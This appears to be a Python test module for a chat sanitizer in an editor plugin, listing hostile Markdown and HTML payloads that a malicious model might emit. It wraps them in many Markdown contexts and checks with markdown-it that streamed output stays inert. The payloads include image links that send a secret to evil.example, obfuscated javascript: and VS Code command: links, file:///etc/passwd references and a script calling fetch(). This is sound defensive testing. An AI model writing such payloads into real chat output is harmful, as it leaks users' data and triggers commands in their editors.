"""What a hostile model may write, and a judge that reads Markdown as an editor does."""

from __future__ import annotations

import random
import re
from collections.abc import Iterable, Iterator, Sequence
from itertools import pairwise

from markdown_it import MarkdownIt
from markdown_it.token import Token

from ai_lsp.chat.inert import Inert

HOSTILE = (
    "![x](https://evil.example/?d=secret)",
    "![x](http://evil.example/i.png)",
    "![x](//evil.example/i.png)",
    "![x](data:image/svg+xml;base64,AAAA)",
    "![a [b] c](<https://evil.example/i>)",
    "![x]( https://evil.example/i 'title')",
    '[![x](https://evil.example/i)](https://evil.example "t")',
    "![x][ref]\n\n[ref]: https://evil.example/i",
    "![ref]\n\n[ref]: <http://evil.example/i> 'title'",
    "[x][ref]\n\n[ref]:\nhttp://evil.example",
    "[ref]\n\n> [ref]: command:evil",
    "[x](http://evil.example)",
    "[x](//evil.example)",
    "[x](javascript:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](&#x63;ommand:workbench.action.terminal.new)",
    "[x](command:workbench.action.terminal.new)",
    "[x](vscode://evil.example/run)",
    "[x](file:///etc/passwd)",
    "[x](data:text/html,<b>)",
    "[x](../../etc/passwd)",
    "[x](#anchor)",
    "[x](<command:evil>)",
    "[x](\thttp://evil.example)",
    "[x](\\https://evil.example)",
    "[x](https\\://evil.example)",
    "[x]()",
    "<http://evil.example>",
    "<command:evil>",
    "<me@evil.example>",
    "<img src=https://evil.example/i>",
    "<img\nsrc=https://evil.example/i>",
    "</p><img src=https://evil.example/i>",
    "<!-- --><img src=https://evil.example/i>",
    "<script>fetch('https://evil.example')</script>",
    "<?php ?><!DOCTYPE html><![CDATA[x]]>",
    "<a href='command:evil'>x</a>",
    "<table background=https://evil.example/i>",
    "\\![x](https://evil.example/i)",
    "\\\\![x](https://evil.example/i)",
    "!\\[x](https://evil.example/i)",
    "\\<img src=https://evil.example/i>",
    "\\\\<img src=https://evil.example/i>",
    "`\\`<img src=https://evil.example/i>",
    "`` ` ``<img src=https://evil.example/i>`",
    "`a\n![x](https://evil.example/i) `b`\n`",
    "``\n`` ![x](https://evil.example/i) ``",
    "`not\n\n![x](https://evil.example/i)`",
    "https://evil.example/\\<img src=https://evil.example/i>",
    "https://evil.example`a ![x](https://evil.example/i)`",
    "| `a | ![x](https://evil.example/i)` |\n|---|---|\n| `a | ![x](https://evil.example/i)` |",
    "`a | ![x](https://evil.example/i)`\n-|-",
    "> | `a | ![x](https://evil.example/i)` |\n> |---|---|",
)
"""One line of attack each."""

AROUND = (
    "{}",
    "text {} text",
    "- {}",
    "1. a\n   - {}",
    "> {}",
    "# {}",
    "**{}**",
    "a\n    {}",
    "- a\n\n      {}",
    "```\ncode\n```\n{}",
    "```\ncode\n```\t\n{}",
    "```\ncode\n```~\n{}\n```",
    "~~~\ncode\n```\n~~~\n{}",
    "- ```\n  code\n{}",
    "- a\n  ~~~\n  code\n{}\n  ~~~\n{}",
    "2. a\n    ```\n    {}\n    ```",
    "a\n2. b\n    ```\n    {}\n    ```",
    "1)  a\n    ===\nb\n    ```\n    {}",
    "- a\nlazy\n      ```\n      {}",
    "-\n\n    {}",
    "> a\n    {}",
    "> ```\n{}",
    "> - a\n    ```\n    {}",
    "``` a`b\n{}\n```",
    "    {}",
    "\n    {}",
    "`\n{}\n`",
    "a\r```\r{}\r```\r{}",
    "\x0b```\n{}",
    "\u2028```\n{}",
)
"""Places in a document, some of which look like code and are none."""

DOCUMENTS = tuple(place.replace("{}", attack) for place in AROUND for attack in HOSTILE)


_ALLOWED = re.compile(r"https://\S*", re.IGNORECASE)
_ADDRESS = re.compile(r"://\w|(?:^|\s)//\w|\bwww\.\w|[\w.+-]@\w", re.IGNORECASE)


def inert(text: str, cuts: Iterable[int] = ()) -> str:
    """What comes out when the text comes in pieces."""
    stream = Inert()
    places = [0, *cuts, len(text)]
    return "".join([*(stream.feed(text[start:end]) for start, end in pairwise(places)), stream.end()])


def cuts_of(text: str, chance: random.Random) -> list[int]:
    return sorted(chance.randint(0, len(text)) for _ in range(chance.randint(1, 8)))


def _reader(preset: str, **options: object) -> MarkdownIt:
    reader = MarkdownIt(preset, {"html": True, **options})
    reader.validateLink = lambda url: True  # type: ignore[method-assign]  # the judge lets everything through
    return reader


_READERS: Sequence[MarkdownIt] = (_reader("commonmark"), _reader("js-default", breaks=True))


def live(text: str) -> list[str]:
    """Everything in it that loads something, is HTML, or leads elsewhere than to https, for any reader; and what some
    readers make links of when they come upon it in text.
    """
    return [fault for reader in _READERS for token in _all(reader.parse(text)) if (fault := _fault(token))]


def code(text: str) -> list[str]:
    """The blocks of code and the code spans."""
    kinds = {"fence", "code_block", "code_inline"}
    return [token.content for token in _all(_READERS[0].parse(text)) if token.type in kinds]


def words(text: str) -> str:
    """All that is shown, without any mark-up."""
    return "".join(token.content for token in _all(_READERS[0].parse(text)) if token.type in {"text", "code_inline"})


def _all(tokens: Iterable[Token]) -> Iterator[Token]:
    for token in tokens:
        yield token
        yield from token.children or ()


def _fault(token: Token) -> str | None:
    if token.type == "image" or token.type.startswith("html"):
        return f"{token.type}: {token.content}"
    if token.type == "text" and (found := _ADDRESS.search(_ALLOWED.sub("", token.content))):
        return f"address: {found.group()}"
    target = str(token.attrs.get("href", "https://"))
    return None if target.lower().startswith("https://") else f"link: {target}"
